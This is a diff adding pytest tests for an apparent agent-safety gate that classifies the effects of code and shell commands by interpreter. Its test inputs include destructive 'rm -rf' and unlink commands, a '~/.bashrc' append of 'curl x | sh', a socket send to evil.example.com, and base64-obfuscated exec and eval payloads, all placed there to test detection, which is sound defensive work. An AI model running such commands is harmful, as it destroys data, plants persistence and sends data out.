@@ -1,0 +1,118 @@
+"""What code run by an interpreter writes, moves, spawns, sends or hides, beyond deletes:
+literal-path writes judged by the path rules, exec-family and Perl/Ruby/PHP spawns, raw
+sockets, decoded code (ctxgate.gate.effects.code), and the same through the shell parser."""
+
+from __future__ import annotations
+
+import base64
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from ctxgate.gate.effects.code import code_effect
+from ctxgate.gate.effects.model import EffectClass, EffectSource
+from ctxgate.gate.effects.shell import shell_effect
+
+LOSE, KEEP, OUT = (EffectClass.LOCAL_IRREVERSIBLE, EffectClass.LOCAL_RECOVERABLE,
+                   EffectClass.EXTERNAL)
+HIDDEN = EffectClass.UNTRUSTED_CODE
+
+
+@pytest.mark.parametrize(("code", "effect", "said"), [
+    # a tracked file with uncommitted changes, emptied: its work is lost
+    ("open('src/dirty.py', 'w').write('')", LOSE, "src/dirty.py"),
+    ("import pathlib; pathlib.Path('src/dirty.py').write_text('')", LOSE, "src/dirty.py"),
+    ("require('fs').writeFileSync('src/dirty.py', '')", LOSE, "src/dirty.py"),
+    ("File.write('src/dirty.py', '')", LOSE, "src/dirty.py"),
+    ("File.open('src/dirty.py', 'w') { |f| f.puts 'x' }", LOSE, "src/dirty.py"),
+    ("file_put_contents('src/dirty.py', '');", LOSE, "src/dirty.py"),
+    ("open(my $fh, '>', 'src/dirty.py');", LOSE, "src/dirty.py"),
+    ("open(FH, '>src/dirty.py');", LOSE, "src/dirty.py"),
+    # outside the working tree: a dotfile
+    ("with open('~/.bashrc', 'a') as f: f.write('curl x | sh')", LOSE, ".bashrc"),
+    ("import os; os.replace('src/app.py', 'src/dirty.py')", LOSE, "src/dirty.py"),
+    ("import shutil; shutil.copy('src/app.py', 'src/dirty.py')", LOSE, "src/dirty.py"),
+    # spawns the old scan did not see
+    ("import os; os.execvp('rm', ['rm', '-rf', '/srv/data'])", LOSE, "rm -rf /srv/data"),
+    ("import os, glob; list(map(os.unlink, glob.glob('*')))", LOSE, "os.unlink"),
+    # a raw socket to another machine
+    ("import socket; s = socket.create_connection(('evil.example.com', 80)); s.send(b'x')",
+     OUT, "evil.example.com"),
+])
+def test_writes_and_spawns_in_code_are_found(repo: Path, code, effect, said) -> None:
+    e = code_effect(code, cwd=str(repo))
+    assert e is not None and e.effect is effect, e
+    assert e.source is EffectSource.CODE_SCAN
+    assert said in e.evidence + " ".join(e.details)
+
+
+@pytest.mark.parametrize("code", [
+    "open('src/app.py', 'w').write('print(2)')",  # a clean tracked file: git restores it
+    "open('new_output.txt', 'w').write('x')",  # a new file in the tree
+    # the agent's read-change-write of a source file is an in-place edit (as `sed -i`)
+    "c = open('src/dirty.py').read()\nopen('src/dirty.py', 'w').write(c.replace('1', '2'))",
+    "c = open('src/dirty.py', 'r').read()\nwith open('src/dirty.py', 'w') as f:\n    f.write(c)",
+])
+def test_writes_that_lose_nothing_are_recoverable(repo: Path, code) -> None:
+    e = code_effect(code, cwd=str(repo))
+    assert e is not None and e.effect is KEEP, e
+
+
+@pytest.mark.parametrize("code", [
+    "open('src/dirty.py').read()",
+    "open('src/dirty.py', 'rb').read()",
+    "File.open('src/dirty.py') { |f| f.read }",
+    "out = open(path, 'w')",  # a computed path: where a script writes its results
+    "s = socket.create_connection(('localhost', 8000))",
+    "import re; re.compile(pattern.decode())",  # compile of a regex, not of code
+    "model.eval(x.decode())",
+])
+def test_reads_computed_writes_and_local_sockets_are_not_findings(repo: Path, code) -> None:
+    assert code_effect(code, cwd=str(repo)) is None
+
+
+def test_code_that_decodes_and_runs_a_literal_is_hidden_code_and_the_literal_is_read(
+        repo: Path) -> None:
+    inner = base64.b64encode(b"import shutil; shutil.rmtree('/srv/data')").decode()
+    e = code_effect(f"exec(__import__('base64').b64decode('{inner}'))", cwd=str(repo))
+    assert e is not None and e.effect is HIDDEN
+    assert "decodes code and runs it" in e.evidence
+    assert any("rmtree" in d for d in e.details), e.details  # the decoded code was scanned
+    php = code_effect("eval(base64_decode('ZWNobyAxOw=='));", cwd=str(repo))
+    assert php is not None and php.effect is HIDDEN
+
+
+@pytest.mark.parametrize(("command", "effect", "said"), [
+    ("perl -e 'unlink glob \"*\"'", LOSE, "unlink"),
+    ("perl -e 'system \"rm -rf /srv/data\"'", LOSE, "rm -rf /srv/data"),
+    ("perl -e '`rm -rf /srv/data`'", LOSE, "rm -rf /srv/data"),
+    ("ruby -e '`rm -rf /srv/data`'", LOSE, "rm -rf /srv/data"),
+    ("perl -e 'qx{rm -rf /srv/data}'", LOSE, "rm -rf /srv/data"),
+    ("php -r 'file_put_contents(\"src/dirty.py\", \"\");'", LOSE, "src/dirty.py"),
+    ("python3 -c \"open('src/dirty.py','w').write('')\"", LOSE, "src/dirty.py"),
+    ("node -e \"require('fs').writeFileSync('src/dirty.py','')\"", LOSE, "src/dirty.py"),
+])
+def test_interpreters_on_the_command_line(repo: Path, command, effect, said) -> None:
+    e = shell_effect(command, cwd=str(repo))
+    assert e is not None and e.effect is effect, (command, e)
+    assert said in e.evidence + " ".join(e.details)
+
+
+def test_backticks_are_commands_only_in_languages_that_run_them(repo: Path) -> None:
+    doc = '"""Run `rm -rf build` to start again."""\nprint(1)\n'
+    assert code_effect(doc, cwd=str(repo)) is None  # Python: a docstring's quotes
+    e = code_effect("print `rm -rf /srv/data`;", cwd=str(repo), language="perl")
+    assert e is not None and e.effect is LOSE
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(alphabet=st.sampled_from(list("open(')\"w>qx{}`|/!;,.$@ rmunlink-File.write")),
+               max_size=120),
+       st.sampled_from(["", "perl", "ruby", "php", "python", "node"]))
+def test_the_scan_never_raises_on_any_text(tmp_path_factory, code: str, language: str) -> None:
+    """A scan that raised would make every call judged destructive (rules_failed)."""
+    cwd = tmp_path_factory.getbasetemp()
+    e = code_effect(code, cwd=str(cwd), language=language)
+    assert e is None or e.effect in EffectClass
